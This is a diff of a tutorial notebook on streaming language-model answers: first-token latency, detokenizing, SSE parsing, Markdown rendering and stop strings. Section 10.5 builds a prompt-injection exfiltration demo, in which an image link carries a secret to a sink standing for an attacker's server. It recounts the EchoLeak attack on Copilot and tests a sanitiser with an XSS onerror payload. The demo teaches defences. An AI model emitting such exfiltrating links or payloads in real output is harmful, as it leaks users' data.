@@ -9,14 +9,14 @@
 # %% [markdown]
 # # 10 · Streaming to the screen
 #
-# ![Layer 10 of 12: streaming](images/layer_10.svg)
-#
 # The answer exists on the server long before you can read it. This chapter measures
 # every step between the two, breaks each of them, and repairs it.
 #
 # *35 minutes · needs the weights (98 MB, fetched once); no GPU, no key. At the end
 # you can say where the milliseconds before the first word went, cut a stream anywhere
-# without losing a character, and draw an answer without drawing it again.*
+# without losing a character, and draw a growing answer without drawing it again.*
+#
+# **Click into the first cell and press Shift+Enter; then go on in the same way.**
 
 # %% tags=["plumbing"]
 # If labkit is missing: this book has no public address yet to install it from, so run
@@ -26,27 +26,31 @@ from labkit.book import start
 lab = start(chapter=10)
 
 # %% [markdown]
-# **Scene.** You asked how many r's are in "strawberry" 🍓. The request passed the
-# gateway, was rendered with its system message, cut into tokens and prefilled. Now
-# one token id at a time falls out of the sampler. Ids are not text, text is not an
-# event, and an event is not a pixel: this is the way back up. Below is the recorded
-# life of that request. The lit part is this chapter's layer; the arrow keys choose
-# another.
+# **Scene.** You asked how many r's are in "strawberry" 🍓. Your request passed the
+# gateway, became one prompt, was cut into tokens and was computed by the model. Now
+# the sampler gives one token id after another. A token id is not text, because its
+# bytes may end in the middle of a character. Text is not yet an event on the wire, and
+# an event is not yet a word on your screen. This chapter follows the answer along that
+# way. The lit part of the picture above is this layer.
 
-# %%
+# %% tags=["plumbing"]
+from itertools import pairwise
+
 from labkit.book import claim
 from labkit.records import Layer
 from labkit.widgets import SSEInspector, StreamView, TraceBar, TTFTWaterfall
 
 recorded = lab.replay_trace("request")
-TraceBar(recorded, lit=Layer.STREAMING)
 
 # %% [markdown]
 # ## 10.1 Where do the milliseconds before the first word go?
 #
-# *Time to first token* (TTFT) is what a person feels as "it is thinking". Before you
-# measure: our prompt has 34 tokens and nobody else is asking. Which part is the
-# largest?
+# The *time to first token* (TTFT) is the time from sending a request to the first
+# text of its answer. A person feels it as "it is thinking". The time from each token
+# to the next is the *time per output token* (TPOT).
+#
+# Our prompt has 34 tokens, and nobody else is asking. Before you measure: which part of
+# the TTFT is the largest?
 
 # %%
 guess_part = lab.predict(
@@ -56,21 +60,41 @@ guess_part = lab.predict(
 guess_part
 
 # %% [markdown]
-# Now ask for real; our own request's answer is too short to watch, so ask for a
-# story. The kernel opens an SSE stream to the server beside it, and each dot is an
-# event at the moment it arrived. Raise **Max tokens**, press **Start** (Tab reaches
-# it, Enter presses it), then **Stop** half-way: the server is told, and the request's
-# blocks are free before its next step.
+# Now watch a stream. The answer to our own request is too short for that, so the cell
+# asks for a story. The server sends it as *server-sent events* (SSE): one HTTP answer
+# that stays open, in which every event ends with a blank line.
+#
+# **What to look at.** Each dot is an event at the moment it arrived. A shaded word was
+# not the model's certain choice: point at it to see its probability. While the text is
+# arriving, press **Stop** (Tab reaches it, Enter presses it). Then change the prompt or
+# raise **Max tokens** and press **Start**.
 
 # %% tags=["measurement"]
 tale = [{"role": "user", "content": "Tell me a long story about a lighthouse."}]
-view = StreamView(lab.server, tale, max_tokens=40, temperature=0.0)
+scores = {"logprobs": True, "top_logprobs": 3}  # of each token, and of three others
+view = StreamView(lab.server, tale, max_tokens=60, seed=1, **scores)
+lab.show(view)
 view.run()
 
+# %% tags=["plumbing", "measurement"]
+seen = view.pace
+usual, worst = seen.gap_p50_ms or 0.0, seen.gap_p99_ms or 0.0
+lab.md(
+    f"**What you saw.** {seen.num_texts} pieces of text arrived. The first one came "
+    f"after {seen.first_text_ms or 0:,.0f} ms. After that, half of the gaps between "
+    f"two pieces were no longer than {usual:.1f} ms (p50), and 99 % of them were no "
+    f"longer than {worst:.1f} ms (p99). The difference between the two is the *jitter*."
+)
+
 # %% [markdown]
-# The server stamps its own steps and the client stamps arrivals; `lab.trace` brings
-# both onto one clock. Three requests: the short prompt, a long one, and the short one
+# The server writes down when each of its own steps begins and ends, and the client
+# writes down when each event arrives. `lab.trace` brings both onto one clock. The next
+# cell records three requests: the short prompt, a long prompt, and the short prompt
 # again while three long ones are ahead of it.
+#
+# **What to look at.** The three grey bars compare the whole waits. The rows below are
+# the parts of one of them, in the order in which they began. Choose a row, and the line
+# at the bottom says what happens in it.
 
 # %% tags=["measurement"]
 foxes = "The quick brown fox jumps over the lazy dog. " * 60
@@ -81,63 +105,95 @@ ahead = [lab.server.stream(long_prompt, **knobs) for _ in range(3)]
 behind = lab.trace(lab.request, **knobs)
 for stream in ahead:
     stream.cancel()
+
+# %% tags=["plumbing", "measurement"]
 for trace, label in ((short, "short"), (long, "long"), (behind, "behind three")):
     trace.meta["label"] = label
 waterfall = TTFTWaterfall([short, long, behind])
+parts = [{row.name: row.ms for row in w.rows} for w in waterfall.waterfalls]
+totals = [w.total_ms for w in waterfall.waterfalls]
 waterfall
 
 # %% tags=["measurement"]
-parts = [{row.name: row.ms for row in w.rows} for w in waterfall.waterfalls]
 mostly = max(guess_part.options, key=lambda name: parts[0].get(name, 0.0))
 guess_part.reveal(mostly, "Measured on this machine, just now.")
 
-# %% [markdown]
-# **Why.** TTFT is a sum of seconds, and you have just read each term:
-#
-# $$\mathrm{TTFT}=t_{connect}+t_{parse}+t_{render}+t_{tokenize}+t_{queue}+t_{prefill}
-# +t_{sample}+t_{detokenize}+t_{flush}+t_{network}$$
-#
-# Prefill grows with your prompt and the queue with other people's prompts. The rest
-# is small here because client and server share a machine. Only two terms are "the
-# model".
+# %% tags=["plumbing", "measurement"]
+largest = [max(part, key=part.__getitem__) for part in parts]
+told = [
+    f"**{name}** with {part[name] / total:.0%} of {total:,.0f} ms ({label})"
+    for part, name, total, label in zip(
+        parts, largest, totals, ("short", "long", "behind three"), strict=True
+    )
+]
+lab.md(
+    f"**What you saw.** The largest part is {'; '.join(told)}. A gap in a bar means "
+    "that the moment belongs to a part that began later."
+)
 
-# %%
-totals = [w.total_ms for w in waterfall.waterfalls]
-sums = [sum(part.values()) for part in parts]
-gaps = [abs(total - found) for total, found in zip(totals, sums, strict=True)]
-claim("the parts add up to the whole, rounding apart", max(gaps) < 0.05)
+# %% [markdown]
+# **Why.** The TTFT is the sum of the parts in the table below. Written with the largest
+# groups of them, all in seconds:
+#
+# $$\mathrm{TTFT}=t_{network}+t_{server}+t_{queue}+t_{prefill}+t_{sample}+t_{flush}$$
+#
+# Prefill grows with your own prompt, because every token of it has to be computed. The
+# queue grows with the prompts of other people, because their tokens are computed first.
+# The network is short here, since client and server share one machine. A *decode* part
+# may appear although no second token is shown yet: the engine does not wait for the
+# network, so it computes the second token while the first one travels.
+
+# %% tags=["plumbing", "measurement"]
+lab.table(
+    ["part", "what happens in it", "short, ms", "long, ms"],
+    [
+        (row.name, row.about, f"{row.ms:,.2f}", f"{parts[1].get(row.name, 0.0):,.2f}")
+        for row in waterfall.waterfalls[0].rows
+    ],
+)
+
+# %% tags=["plumbing"]
+gaps = [abs(t - sum(part.values())) for t, part in zip(totals, parts, strict=True)]
+claim("The parts of each request add up to its TTFT.", max(gaps) < 0.05)  # rounded
 claim(
-    "a long prompt waits longer for its prefill",
+    "The prefill of the long prompt takes longer than that of the short prompt.",
     parts[1]["prefill"] > parts[0]["prefill"],
 )
-claim("behind others, the queue grows", parts[2]["queue"] > parts[0]["queue"])
+claim(
+    "The short prompt waits longer in the queue when three long prompts are ahead.",
+    parts[2]["queue"] > parts[0]["queue"],
+)
 
 # %% [markdown]
-# **In production.** NVIDIA's guide counts queueing, prefill and the network into TTFT
-# and skips empty first events ([NIM benchmarking
+# **In production.** NVIDIA's guide counts the queue, the prefill and the network into
+# the TTFT and skips first events that are empty ([NIM benchmarking
 # 2.0.0](https://docs.nvidia.com/nim/benchmarking/llm/2.0.0/metrics.html)).
-# OpenTelemetry names two clocks: `gen_ai.client.operation.time_to_first_chunk` runs
-# from the client's send, `gen_ai.server.time_to_first_token` runs on the server
+# OpenTelemetry has two measures: `gen_ai.client.operation.time_to_first_chunk` begins
+# when the client sends, and `gen_ai.server.time_to_first_token` begins on the server
 # ([conventions](https://github.com/open-telemetry/semantic-conventions-genai),
-# status: development, read November 2026). Ask which one your dashboard shows.
+# status: development, read November 2026). Ask which of them your dashboard shows.
 
 # %% [markdown]
 # ## 10.2 What comes first: a chunk, a token or a character?
 #
-# Three stamps follow one click. The *first chunk* is the first event on the wire,
-# which in OpenAI's dialect brings a role and no text. The *first token* is the first
-# id out of the sampler. The *first character* is what you see. This Korean sentence
-# has 85 tokens, and many end in the middle of a character. How many pieces of text
-# come out?
+# Three moments follow one press of the button, and they are not the same moment.
+#
+# - The *first chunk* is the first event on the wire. In OpenAI's dialect it brings the
+#   role `assistant` and no text.
+# - The *first token* is the first id that the sampler gives.
+# - The *first text* is the first character that you can see.
+#
+# A token may end inside a character. The Korean sentence in the next cell has 85
+# tokens, and many of them do. How many pieces of text come out of 85 tokens?
 
 # %%
-korean = "모든 인간은 태어날 때부터 자유로우며 그 존엄과 권리에 있어 동등하다."
 guess_pieces = lab.predict("Pieces of text from 85 tokens", between=(1, 85))
 guess_pieces
 
 # %%
 from labkit.text.detokenizer import StreamDetokenizer
 
+korean = "모든 인간은 태어날 때부터 자유로우며 그 존엄과 권리에 있어 동등하다."
 ids = lab.tokenizer.encode(korean)
 detokenizer = StreamDetokenizer(lab.tokenizer.token_bytes)
 pieces = [detokenizer.feed(token_id) for token_id in ids]
@@ -145,116 +201,146 @@ visible = [piece for piece in pieces if piece]
 guess_pieces.reveal(len(visible))
 
 # %% [markdown]
-# Each token decoded alone would print `�` almost every time. The detokenizer keeps
-# the bytes of an unfinished character and gives them up when it is whole, or at the
-# end.
-
-# %% tags=["nbval-check-output"]
-alone = [lab.tokenizer.token_bytes(i).decode("utf-8", "replace") for i in ids]
-claim("the sentence has 85 tokens", len(ids) == 85)
-claim(
-    "decoded alone, 84 of them show a replacement character",
-    sum("�" in a for a in alone) == 84,
-)
-claim("46 tokens release no text", len(ids) - len(visible) == 46)
-claim(
-    "the pieces join to the sentence", "".join(pieces) + detokenizer.flush() == korean
-)
+# **Why.** A Korean syllable has three bytes in UTF-8, and most tokens here are a part
+# of one. Decoded alone, such a token can only be shown as the replacement character
+# `�`. The detokenizer keeps the bytes of an unfinished character until the rest has
+# come.
 
 # %%
 lab.source(StreamDetokenizer)
 
+# %% tags=["nbval-check-output"]
+alone = [lab.tokenizer.token_bytes(i).decode("utf-8", "replace") for i in ids]
+num_broken = sum("�" in text for text in alone)
+joined = "".join(pieces) + detokenizer.flush()
+claim("The Korean sentence has 85 tokens.", len(ids) == 85)
+claim("Decoded alone, 84 of them show a replacement character.", num_broken == 84)
+claim("Behind the detokenizer, 46 tokens bring no text.", len(ids) - len(visible) == 46)
+claim("The pieces of text join to the sentence again.", joined == korean)
+
 # %% [markdown]
-# A stop string widens the gap in every language. The greedy answer to our request
-# begins `The answer is "1"`. Ask to stop at `The answer is 2`, and for a while every
-# token could still turn into that. Which token brings the first visible text?
+# A *stop string* delays text in every language. It is a text at which the answer has to
+# end, and it must not be shown, not even its beginning. The greedy answer to our
+# request begins with `The answer is "1"`. If the stop string is `The answer is 2`, each
+# of the first tokens could still turn into it.
+#
+# **What to look at.** The table tells which token brings the first text, counted from
+# 0.
 
 # %% tags=["nbval-check-output"]
 plain = lab.trace(lab.request, **knobs)
 held = lab.trace(lab.request, max_tokens=8, temperature=0.0, stop="The answer is 2")
 first_texts = [t.marks_named("first_text")[0].key.token for t in (plain, held)]
-names = ["plain", "with a stop string"]
+names = ["without a stop string", "with a stop string"]
 lab.table(["request", "token that brings text"], zip(names, first_texts, strict=True))
 
-# %% tags=["nbval-check-output"]
-stamps = [
-    held.marks_named(f"first_{what}")[0].time_s for what in ("chunk", "token", "text")
-]
-claim("without a stop string, token 0 is visible at once", first_texts[0] == 0)
-claim("with one, tokens are held until the stop is ruled out", first_texts[1] > 0)
-claim("so the first text comes after the first token", stamps[2] > stamps[1])
+# %% tags=["plumbing", "nbval-check-output"]
+marks = {name: held.marks_named(f"first_{name}")[0] for name in ("token", "text")}
+claim("Without a stop string, the first token is visible at once.", first_texts[0] == 0)
+claim(
+    "With a stop string, tokens are held until they cannot become the stop string.",
+    first_texts[1] > 0,
+)
+claim(
+    "With a stop string, the first text comes later than the first token.",
+    marks["text"].time_s > marks["token"].time_s,
+)
 
 # %% [markdown]
-# **In production.** vLLM holds back as many characters as the longest stop string
-# has, less one, whatever the text is; a maintainer calls the empty first chunks that
-# users reported intended
+# **In production.** vLLM holds back as many characters as its longest stop string has,
+# less one, whatever the text is. Users reported the empty first chunks that follow from
+# it, and a maintainer called them intended
 # ([vllm#11089](https://github.com/vllm-project/vllm/issues/11089), 2025). Our server
-# holds only what could still begin a stop string. Section 10.6 puts a number on the
+# holds only text that could still begin a stop string. Section 10.6 measures the
 # difference.
 
 # %% [markdown]
-# ## 10.3 What survives when the line goes dead?
+# ## 10.3 What survives when the network cuts a stream?
 #
-# One recorded answer, which opens with four stars 🌟, in two dialects. OpenAI's sends
-# deltas and, if you ask, one usage chunk at the end. Anthropic's sends typed events
-# with usage at the start and again, cumulative, at the end. Switch faults on and
-# compare the two parsers: ours, and one that trusts each piece to be whole events.
-
-# %%
-import json
-
-from labkit.net.relay import cut_points, recut, relay
-
-story = lab.replay_streams("story")
-recordings = {name: story.frames(name) for name in ("openai", "anthropic")}
-raw = [  # the same frames, with characters as UTF-8 and not as \uXXXX
-    b"data: " + json.dumps(json.loads(f[6:]), ensure_ascii=False).encode() + b"\n\n"
-    for f in recordings["openai"][:-1]
-]
-SSEInspector({**recordings, "openai, raw UTF-8": raw}, relay)
-
-# %% [markdown]
-# The network may cut a stream between any two bytes. Take the first twelve frames
-# with raw UTF-8 and cut them in two at each possible place. At how many places will
-# our parser give other events than for the whole?
+# A network may cut a stream into pieces at any byte. Take the first twelve events of a
+# recorded answer and cut their bytes in two, once at every possible place. A parser
+# that is right reads the same events each time. At how many places will ours read
+# others?
 
 # %%
 guess_cuts = lab.predict("Places where a cut changes the events", between=(0, 1000))
 guess_cuts
 
-# %%
+# %% tags=["plumbing"]
+import json
+
+from labkit.net.relay import cut_points, recut, relay
+from labkit.records import Faults
 from labkit.text.sse import SSEParser
 
+story = lab.replay_streams("story")
+recordings = {name: story.frames(name) for name in ("openai", "anthropic")}
+raw = (
+    [  # the same frames, with characters as UTF-8 and not as \uXXXX
+        b"data: " + json.dumps(json.loads(f[6:]), ensure_ascii=False).encode() + b"\n\n"
+        for f in recordings["openai"][:-1]
+    ]
+    + recordings["openai"][-1:]
+)
+whole = b"".join(raw[:12])
 
+
+# %%
 def events_of(pieces):
     parser = SSEParser()
     return [event for piece in pieces for event in parser.feed(piece)]
 
 
-whole = b"".join(raw[:12])
 want = events_of([whole])
-bad = [i for i in range(1, len(whole)) if events_of(recut(whole, [i])) != want]
-guess_cuts.reveal(len(bad), f"All {len(whole) - 1:,} places were tried.")
+changed = [i for i in range(1, len(whole)) if events_of(recut(whole, [i])) != want]
+guess_cuts.reveal(len(changed), f"All {len(whole) - 1:,} places were tried.")
+
+# %% [markdown]
+# A first attempt at a parser often trusts the network: it takes every piece for whole
+# events. The next cell counts the places where such a naive parser goes wrong.
 
 
 # %%
-def naive(pieces):
-    frames = [
-        f for p in pieces for f in p.decode("utf-8", "replace").split("\n\n") if f
-    ]
+def naive_events(pieces):
+    texts = [piece.decode("utf-8", "replace") for piece in pieces]
+    frames = [frame for text in texts for frame in text.split("\n\n") if frame]
     return [frame.removeprefix("data: ") for frame in frames]
 
 
-lost = [i for i in range(1, len(whole)) if naive(recut(whole, [i])) != naive([whole])]
+want_naive = naive_events([whole])
+cuts = range(1, len(whole))
+lost = [i for i in cuts if naive_events(recut(whole, [i])) != want_naive]
+lab.md(f"The naive parser goes wrong at **{len(lost):,} of {len(cuts):,}** places.")
+
+# %% [markdown]
+# The inspector sends a whole recorded answer through an unkind network. It has the
+# answer in two dialects: OpenAI's sends small changes, called *deltas*, and at the end
+# one chunk with the *usage*, which is the number of tokens. Anthropic's sends typed
+# events, with a usage at the start and again at the end.
+#
+# **What to look at.** Pick an event on the right: its frame and its bytes light up on
+# the left. Then change the faults and compare the two cards below: what does each
+# parser still understand?
+
+# %%
+inspector = SSEInspector({**recordings, "openai, raw UTF-8": raw}, relay)
+inspector.show("openai", Faults(chunk_bytes=64))
+inspector
+
+# %% tags=["plumbing"]
+real, naive = inspector.real, inspector.naive
 lab.md(
-    f"The naive parser goes wrong at **{len(lost):,} of {len(whole) - 1:,}** places."
+    f"**What you saw.** From pieces of 64 bytes our parser reads {real.num_read} "
+    f"events and has the whole text. The naive parser understands {naive.num_read} "
+    f"of them and finds {naive.num_lost} pieces that it cannot read."
 )
 
 # %% [markdown]
-# Now the line dies for good. At each of 200 places, what does the client know about
-# the bill?
+# Now the connection is lost for good. Who pays for the answer wants to know its usage.
+# The next cell ends each recording at 200 random places and counts how often the client
+# has been told some usage before.
 
-# %%
+# %% tags=["plumbing"]
 from labkit.dialects.readers import reader
 from labkit.dialects.wire import ChunkReader
 
@@ -265,43 +351,51 @@ def usage_after(dialect, num_bytes):
     return next((c.usage for c in reversed(chunks) if c.usage), None)
 
 
-# %%
 def known(dialect):
     places = cut_points(len(b"".join(recordings[dialect])), 200, seed=0)
     return sum(usage_after(dialect, n) is not None for n in places) / len(places)
 
 
 # %% tags=["nbval-check-output"]
-shares = {dialect: known(dialect) for dialect in recordings}
-lab.table(
-    ["dialect", "cuts that leave some usage known"],
-    [(d, f"{s:.0%}") for d, s in shares.items()],
-)
+known_shares = {dialect: known(dialect) for dialect in recordings}
+rows = [(dialect, f"{share:.0%}") for dialect, share in known_shares.items()]
+lab.table(["dialect", "ends after which some usage is known"], rows)
 
 # %% tags=["nbval-check-output"]
-claim("no cut in two changes our parser's events", not bad)
-claim("most cuts break the parser that trusts its pieces", len(lost) > len(whole) / 2)
+claim("No cut in two changes the events that our parser reads.", not changed)
+claim("Most cuts in two break the naive parser.", len(lost) > len(whole) / 2)
 claim(
-    "typed events keep a usage more often than deltas",
-    shares["anthropic"] > shares["openai"],
+    "After a lost connection, a usage is known more often from Anthropic's events.",
+    known_shares["anthropic"] > known_shares["openai"],
 )
 
 # %% [markdown]
-# **In production.** OpenAI's reference says of the usage chunk that an interrupted
-# stream may not bring it (`stream_options.include_usage`, in the `openai` package).
-# Anthropic's says that the counts in `message_delta` are cumulative, so a client that
-# adds them up counts twice; PostHog fixed that in October 2026 ([release
+# **In production.** OpenAI's reference says that an interrupted stream may not bring
+# its usage chunk (`stream_options.include_usage`, in the `openai` package). Anthropic's
+# reference says that the counts in `message_delta` are cumulative, so a client that
+# adds them up counts twice. PostHog corrected that in October 2026 ([release
 # 7.75.4](https://github.com/PostHog/posthog-python/releases/tag/posthog-v7.75.4)).
-# The official client ends quietly when `[DONE]` never came: check for it yourself.
+# OpenAI's client does not tell when `[DONE]`, the end of a stream, never came: check
+# for it yourself. The stream view of section 10.1 does, and then calls the stream
+# broken.
 
 # %% [markdown]
-# ## 10.4 How often is the same paragraph drawn?
+# ## 10.4 How often is the same paragraph parsed?
 #
-# An answer in Markdown grows piece by piece, and a page that renders *the whole text*
-# for each piece parses the first paragraph again and again. Run the race: three
-# renderers get the same text, in your browser. Watch the cost and the nodes that are
-# thrown away. (A selection in a node that is rewritten is gone: try to select a
-# word.)
+# An answer in Markdown grows piece by piece. A page that renders *the whole text* for
+# every piece parses the first paragraph again each time. A page that keeps finished
+# *blocks*, such as paragraphs and lists, parses only the last one again. How many times
+# as many characters does the first kind parse?
+
+# %%
+guess_work = lab.predict("Full re-parse costs how many times as much", between=(1, 100))
+guess_work
+
+# %% [markdown]
+# **What to look at.** Press **Start**: three renderers get the same text in your own
+# browser, at the speed at which a model writes. Try to select a word in each of them
+# meanwhile. A selection is lost when its node is thrown away and written anew. After
+# the race, the line at the bottom says who ended with the same page.
 
 # %%
 from pathlib import Path
@@ -309,64 +403,73 @@ from pathlib import Path
 from labkit.widgets import MarkdownRace
 
 essay = Path("data/10_answer.md").read_text(encoding="utf-8")
-race = MarkdownRace(essay, chunk_chars=24)
-race
+lab.show(MarkdownRace(essay, chunk_chars=24))
 
 # %% [markdown]
-# The page's milliseconds are yours alone, so the claim counts something that is the
-# same everywhere: characters parsed. For each character that a renderer parses when
-# it keeps finished blocks, how many does the full renderer parse?
-
-# %%
-guess_work = lab.predict("Full re-parse costs how many times as much", between=(1, 100))
-guess_work
+# The milliseconds of the race are your browser's alone. So the next cell counts
+# something that is the same on every machine: the characters that the package's own two
+# renderers parse.
 
 # %% tags=["nbval-check-output"]
 from labkit.text.markdown import MarkdownStream, Strategy, render
 
-steps = [essay[i : i + 24] for i in range(0, len(essay), 24)]
-streams = {s: MarkdownStream(s) for s in Strategy}
+names = {Strategy.FULL: "full re-parse", Strategy.MEMO: "block memo"}
+chunks = [essay[i : i + 24] for i in range(0, len(essay), 24)]
+streams = {strategy: MarkdownStream(strategy) for strategy in names}
 for stream in streams.values():
-    for step in steps:
-        stream.feed(step)
+    for chunk in chunks:
+        stream.feed(chunk)
     stream.flush()
-rows = [
-    (s, m.work.num_chars_parsed, m.work.num_blocks_written) for s, m in streams.items()
-]
-lab.table(["strategy", "characters parsed", "blocks written"], rows)
+full, memo = (stream.work for stream in streams.values())
+
+# %% tags=["plumbing", "nbval-check-output"]
+lab.table(
+    ["renderer", "characters parsed", "blocks written"],
+    [
+        (name, f"{work.num_chars_parsed:,}", f"{work.num_blocks_written:,}")
+        for name, work in zip(names.values(), (full, memo), strict=True)
+    ],
+)
 
 # %%
-full, memo = (streams[s].work for s in (Strategy.FULL, Strategy.MEMO))
 guess_work.reveal(round(full.num_chars_parsed / memo.num_chars_parsed, 1))
 
-# %% tags=["nbval-check-output"]
-n, size = len(steps), len(essay)
-quadratic = sum(min(24 * k, size) for k in range(1, n + 1))
-claim("the full renderer parses n(n+1)/2 pieces", full.num_chars_parsed == quadratic)
+# %% tags=["plumbing", "nbval-check-output"]
+sums = sum(min(24 * k, len(essay)) for k in range(1, len(chunks) + 1))
+pages = {stream.html for stream in streams.values()}
 claim(
-    "keeping blocks parses less than a seventh of it",
-    memo.num_chars_parsed * 7 < quadratic,
+    "The full re-parse parses 1 chunk, then 2 chunks, and so on up to all of them.",
+    full.num_chars_parsed == sums,
 )
 claim(
-    "and all three end with the same page",
-    {m.html for m in streams.values()} == {render(essay)},
+    "The block memo parses less than a seventh of what the full re-parse parses.",
+    memo.num_chars_parsed * 7 < full.num_chars_parsed,
+)
+claim(
+    "The full re-parse and the block memo end with the same page.",
+    pages == {render(essay)},
 )
 
 # %% [markdown]
-# **Why not always keep blocks?** Because Markdown looks ahead. A link may be used
-# before it is defined, and `**` or a table row change their meaning when they close.
-# Keeping finished blocks and rendering all once at the end is right and cheap. **In
-# production**, Chrome's guide says: append instead of setting `innerHTML`, parse as a
-# stream, and sanitise what has accumulated
+# **Why.** With *n* equal chunks the full re-parse parses $1+2+\dots+n=n(n+1)/2$ chunks,
+# while a text that is parsed once costs *n*. Keeping blocks is not enough by itself,
+# because Markdown looks ahead: a link may be used before its address is defined further
+# down. So the block memo renders everything once more at the end. The streaming parser
+# of the race never looks back, and therefore it may end with another page.
+#
+# **In production.** Chrome's guide says: append new nodes instead of setting
+# `innerHTML`, parse as a stream, and sanitise all the text that has accumulated
 # ([2025-01-21](https://developer.chrome.com/docs/ai/render-llm-responses)).
 
 # %% [markdown]
 # ## 10.5 When is a piece of an answer safe to show?
 #
-# A model's text is untrusted: whoever wrote a page that it read may have written the
-# answer. Two rules sound alike. *Check each piece before you show it.* *Check the
-# whole text each time it grows.* Below, an image whose address carries a secret
-# arrives in two pieces. How many of the two does a check of each piece find?
+# The text of a model is untrusted: somebody who wrote a page that the model has read
+# may have written a part of its answer. Two rules against that sound alike. *Check each
+# piece before you show it.* *Check the whole text each time it grows.*
+#
+# In the next cell an image, whose address carries a secret, arrives in two pieces. How
+# many of the two pieces contain an image when each is checked alone?
 
 # %%
 guess_found = lab.predict(
@@ -378,16 +481,16 @@ guess_found
 from labkit.net.sink import Sink
 from labkit.text.links import LinkPolicy
 
-sink = Sink()  # the attacker's server; ends with this kernel
+sink = Sink()  # stands for the attacker's server; it ends with this kernel
 trusting = LinkPolicy(image_hosts=None)
 pieces = ["Here you are: ![logo](" + sink.url, "/pixel.gif?secret=4711) Done."]
 found = ["<img" in render(piece, trusting) for piece in pieces]
-guess_found.reveal(str(sum(found)), "Neither piece is an image yet; together they are.")
+guess_found.reveal(str(sum(found)), "Neither piece is an image; together they are one.")
 
 # %% [markdown]
-# Show the whole text as a trusting page would. Nothing is clicked; painting is
-# enough. (The committed notebook keeps no output here: this cell is for your own
-# browser.)
+# The next cell shows the whole text as a page would that trusts it. You need not click
+# anything: the secret leaves when your browser paints the image. (A page without a
+# kernel shows no output here, since the cell is meant for your own browser.)
 
 # %% tags=["live"]
 from IPython.display import HTML
@@ -395,48 +498,62 @@ from IPython.display import HTML
 HTML(render("".join(pieces), trusting))
 
 # %% tags=["live"]
-hits = len(sink.hits)
-lab.md(f"The sink was asked **{hits} times** so far. Run this cell again after a look.")
+sink.wait(3.0)  # until somebody asks, but not for longer
+asked = [f"GET {path}" for path in sink.hits]
+lab.md(
+    f"The attacker's server has received this request: `{asked[-1]}`"
+    if asked
+    else "No browser has painted the image yet. Scroll up to it, then run this again."
+)
 
-# %% tags=["nbval-check-output"]
+# %% tags=["plumbing", "nbval-check-output"]
 leak, kept = (render("".join(pieces), p) for p in (trusting, LinkPolicy()))
-claim("no piece alone has the image", not any(found))
+claim("Neither piece alone contains an image.", not any(found))
 claim(
-    "the trusting page loads the secret's address",
+    "A page that trusts the whole text loads the address with the secret.",
     "secret=4711" in leak and "<img" in leak,
 )
-claim("with an allow-list of hosts nothing is fetched", "<img" not in kept)
-claim("and the reader is told what was left out", "lab-image-blocked" in kept)
+claim("A page with a list of allowed hosts loads no image.", "<img" not in kept)
+claim("Its reader is told that an image was left out.", "lab-image-blocked" in kept)
 
 # %% [markdown]
-# **Why.** This is how EchoLeak (CVE-2025-32711, Microsoft 365 Copilot, 2025) carried
-# data out: an injected instruction, an image address, and a page that paints. A piece
-# is not a document, so only the accumulated text can be judged. Cleaning HTML piece
-# by piece fails the other way round: the attack stays out, and so does honest markup.
+# **Why.** EchoLeak carried data out of Microsoft 365 Copilot in this way in 2025
+# (CVE-2025-32711): an injected instruction wrote an image's address, and the page
+# painted the image. A piece is not a document, so only the accumulated text can be
+# judged.
+#
+# Cleaning HTML piece by piece fails in another way as well: the attack stays out, but
+# honest markup is broken. **What to look at:** the two columns of each row.
 
-# %% tags=["nbval-check-output"]
+# %% tags=["plumbing", "nbval-check-output"]
 from labkit.text.sanitise import sanitise_html
 
-honest = ["A <b>bold", " claim</b>."]
-attack = ["<img src=x onerr", "or=alert(1)>"]
-rows = [
-    (name, "".join(map(sanitise_html, parts)), sanitise_html("".join(parts)))
-    for name, parts in (("honest", honest), ("attack", attack))
-]
+texts = {
+    "honest": ["A <b>bold", " claim</b>."],
+    "attack": ["<img src=x onerr", "or=alert(1)>"],
+}
+cleaned = {
+    name: ("".join(map(sanitise_html, parts)), sanitise_html("".join(parts)))
+    for name, parts in texts.items()
+}
+rows = [(name, f"`{a}`", f"`{b}`") for name, (a, b) in cleaned.items()]
 lab.table(["text", "cleaned piece by piece", "cleaned whole"], rows)
 
-# %% tags=["nbval-check-output"]
-claim("cleaned whole, the bold words stay bold", rows[0][2] == "A <b>bold claim</b>.")
-claim("cleaned in pieces, half of them do not", rows[0][1] != rows[0][2])
-claim("cleaned whole, no handler is left", "onerror" not in rows[1][2])
+# %% tags=["plumbing", "nbval-check-output"]
+by_piece, at_once = cleaned["honest"]
+harmless = "onerror" not in cleaned["attack"][1]
+claim("Cleaned whole, both bold words stay bold.", at_once == "A <b>bold claim</b>.")
+claim("Cleaned piece by piece, one bold word is lost.", by_piece != at_once)
+claim("Cleaned whole, the attack has no handler any more.", harmless)
 
 # %% [markdown]
 # ## 10.6 What does a stop string cost the reader?
 #
-# A stop string must not be shown, not even its beginning. So text that could still
-# become one is held. Two policies: hold a fixed number of characters, the longest
-# stop less one; or hold only an end that begins a stop string. Over a text that never
-# stops, how many characters does the second hold on average?
+# Section 10.2 has shown that text is held back while it could still become a stop
+# string. There are two ways to decide how much. The *fixed* way always holds as many
+# characters as the longest stop string has, less one. The *exact* way holds only an end
+# of the text that is the beginning of a stop string. In a text that never stops, how
+# many characters does the exact way hold on average?
 
 # %%
 guess_held = lab.predict(
@@ -452,30 +569,30 @@ matcher, waiting = StopMatcher([stop]), []
 for character in essay:
     matcher.feed(character)
     waiting.append(len(matcher.held))
-fixed = len(stop) - 1
-guess_held.reveal(
-    round(sum(waiting) / len(waiting), 3), f"The fixed policy holds {fixed}."
-)
+mean, fixed = sum(waiting) / len(waiting), len(stop) - 1
+guess_held.reveal(round(mean, 3), f"The fixed way always holds {fixed}.")
+
+# %% [markdown]
+# A stop string may also arrive in several tokens. A server that looks for it in each
+# piece of text alone never finds it. The next cell sends `\nUser:` in three pieces.
 
 # %% tags=["nbval-check-output"]
 token_pieces = ["Sure.", "\nUs", "er", ": hi"]
-leaked = "".join(p for p in token_pieces if stop not in p)
+careless = "".join(piece for piece in token_pieces if stop not in piece)
 safe = StopMatcher([stop])
-shown = "".join(safe.feed(p) for p in token_pieces)
-claim("a match within one piece misses the stop and shows all of it", stop in leaked)
-claim("looking back over pieces shows nothing of it", shown == "Sure.")
-claim(
-    "held on average: less than a tenth of the fixed policy",
-    sum(waiting) < 0.1 * fixed * len(waiting),
-)
+shown = "".join(safe.feed(piece) for piece in token_pieces)
+claim("Looking into each piece alone misses the stop string.", stop in careless)
+claim("Our stop matcher shows no part of the stop string.", shown == "Sure.")
+claim("The exact way holds less than a tenth of the fixed way.", mean < 0.1 * fixed)
